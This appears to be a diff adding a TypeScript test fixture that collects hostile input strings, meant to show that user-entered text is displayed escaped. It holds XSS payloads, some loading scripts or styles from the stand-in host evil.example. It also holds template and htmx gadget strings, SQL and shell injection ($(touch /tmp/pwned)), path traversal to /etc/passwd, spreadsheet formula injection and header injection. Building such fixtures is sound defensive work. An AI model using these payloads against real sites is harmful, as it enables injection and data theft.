@@ -1,0 +1,125 @@
+/**
+ * Words that somebody may write into any field, and that must stay words wherever they are shown. Whatever of it runs
+ * calls `pwned()`, or asks for `/pwned` of this house or of evil.example.
+ */
+
+const MARKUP = [
+  '<script>pwned(1)</script>',
+  '</script><script src=//evil.example/pwned.js></script>',
+  '"><img src=/pwned onerror=pwned(2)>',
+  "'><svg onload=pwned(3)>",
+  '</textarea></title></style></noscript><svg/onload=pwned(4)>',
+  '<iframe srcdoc="<script>parent.pwned(5)</script>">',
+  '<object data="javascript:pwned(6)"><embed src=/pwned>',
+  '<link rel=stylesheet href=//evil.example/pwned.css>',
+  '<meta http-equiv=refresh content="0;url=/pwned">',
+  '<base href=//evil.example/pwned/>',
+  '<form action=//evil.example/pwned><button autofocus>',
+  '<style>@import "/pwned";*{background:url(/pwned)}</style>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned(7)>',
+  '<svg><a href="javascript:pwned(8)"><text>x</text></a></svg>',
+  '<details open ontoggle=pwned(9)><summary>',
+  '<a href="javascript:pwned(10)" id=content name=holds>x</a>',
+  '<template><slot></template><portal src=/pwned>',
+  '<input autofocus onfocus=pwned(11) name=back value=//evil.example>',
+  '&lt;script&gt;pwned(12)&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp; &notanentity; &',
+  '<!-- <img src=/pwned> --!> --> <!-',
+  '<![CDATA[ <b> ]]> <?php echo 1 ?> <%= 1 %>',
+  '</td></tr></table></main></body></html>',
+]
+
+/** What breaks out of an attribute, quoted either way or not at all. */
+const ATTRIBUTES = [
+  '" onmouseover="pwned(20)" x="',
+  "' onfocus='pwned(21)' autofocus='",
+  ' onclick=pwned(22) style=background:url(/pwned) ',
+  '`onload=pwned(23)`',
+  'javascript:pwned(24)',
+  'JaVaScRiPt\t:pwned(25)',
+  'data:text/html,<script>pwned(26)</script>',
+  'vbscript:pwned(27)',
+  '//evil.example/pwned',
+  '\\\\evil.example\\pwned',
+]
+
+/** What libraries on a page would take for their own. */
+const GADGETS = [
+  '{{7*7}} {{constructor.constructor("pwned(30)")()}}',
+  '${pwned(31)} #{pwned(31)} <%= pwned(31) %> {%7*7%} [[7*7]]',
+  '<div x-data="pwned(32)" x-init="pwned(32)" @click="pwned(32)" :href="pwned(32)"></div>',
+  '<div data-hx-get="/pwned" data-hx-trigger="load"></div>',
+  '<div hx-get="/pwned" hx-trigger="load" hx-swap-oob="true" id="content"></div>',
+  '<button hx-post="/appearance" hx-trigger="load delay:1ms" hx-vals="js:{a:pwned(33)}">',
+  '<div hx-on:htmx:load="pwned(34)" data-hx-on--load="pwned(34)">',
+  '<hx-partial hx-target="#content"><b>pwned</b></hx-partial>',
+  '<template hx type="partial" hx-target="#content">pwned</template>',
+  '<p data-live="content" data-since="0" id="panel" data-holds="/pwned" data-left="9">',
+  '<select data-own-zone><option data-lightbox="0" data-slide="1" data-step="1">',
+  '$t(common.skip) $t(letter.greeting, {"name":"x"}) {{house}} {count, plural, other{#}}',
+]
+
+/** What other programs that the words pass through would take for their own. */
+const PROGRAMS = [
+  "Robert'); DROP TABLE bookings;--",
+  "' OR 1=1 -- \" OR ''=' /* */ ;",
+  "100% _under_ \\back 'quote' \"double\" `tick`",
+  '%s %n %x %d %p {0} {} %(name)s %%',
+  '$(touch /tmp/pwned) `touch /tmp/pwned` ; | & > /tmp/pwned',
+  '../../../../etc/passwd ..\\..\\windows %2e%2e%2f',
+  '=HYPERLINK("http://evil.example/pwned","x")',
+  '+cmd|\' /C calc\'!A0 @SUM(1+1) -2+3',
+  'END:VEVENT BEGIN:VALARM ACTION:PROCEDURE ATTACH:/pwned END:VALARM',
+  'ATTENDEE;CN="x":mailto:evil@evil.example;,\\n\\,\\;',
+  'Bcc: evil@evil.example%0d%0aSet-Cookie: a=b',
+  'event: admin data: pwned id: 1 retry: 1',
+  '{"__proto__":{"pwned":true}} null undefined NaN true [object Object]',
+  '\\u001b[31mred\\u001b[0m \\x1b[2J',
+  '{"level":"error","event":"pwned"}',
+]
+
+/** Signs that move, join, vanish or are many. */
+const SIGNS = [
+  'a\u2028b\u2029c',
+  '\u202egnirts\u202c \u2066isolated\u2069 \u200f\u200e \u061c',
+  'עברית و العربية mixed עם English',
+  '👩‍👩‍👧‍👦 👨🏾‍🚀 🏴󠁧󠁢󠁷󠁬󠁳󠁿 🇫🇷 1️⃣',
+  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́O̵̹̹ combining',
+  'zero\u200bwidth\u200c\u200d\u2060\ufeff soft\u00adhyphen no\u00a0break',
+  'İstanbul ıssız ß ẞ ﬁ Å Å Å ǅ',
+  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𐐷 𠜎𠜱 \u{10ffff} \ufffd \ufffe',
+  '漢字かなカナ한국어ไทยमराठीҚазақтілі',
+  '＜script＞pwned(40)＜/script＞ ‹img› ʺonloadʺ',
+  '٠١٢٣ １２３ Ⅷ ½ ² −1 1e400 0x7f 1_000',
+  '\u00a0 \u2003 spaces \u3000',
+  `W${'w'.repeat(70)}`,
+]
+
+/** Each on one line. */
+export const HOSTILE: readonly string[] = [...MARKUP, ...ATTRIBUTES, ...GADGETS, ...PROGRAMS, ...SIGNS]
+
+/** All of them, as nobody's field would hold them; on several lines, but in one paragraph. */
+export const EVERYTHING = HOSTILE.join(' ·\n')
+export const EVERYTHING_IN_A_LINE = HOSTILE.join(' · ')
+
+/** All of them in as few texts as have no more than so many letters each. */
+export function packsOf(most: number, between = ' '): string[] {
+  const packs: string[] = []
+  for (const each of HOSTILE) {
+    const words = each.trim().slice(0, most)
+    const last = packs.at(-1)
+    if (last !== undefined && last.length + between.length + words.length <= most)
+      packs[packs.length - 1] = last + between + words
+    else packs.push(words)
+  }
+  return packs
+}
+
+/** What HTML makes of a text on the way through a parser: its line ends, and nothing else. */
+export const throughHtml = (text: string): string => text.replace(/\r\n?/g, '\n')
+
+/** A text as it stands in HTML, in a text or in an attribute. */
+export const escapedForHtml = (text: string): string =>
+  text.replace(
+    /[&<>"']/g,
+    (sign) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[sign]!,
+  )
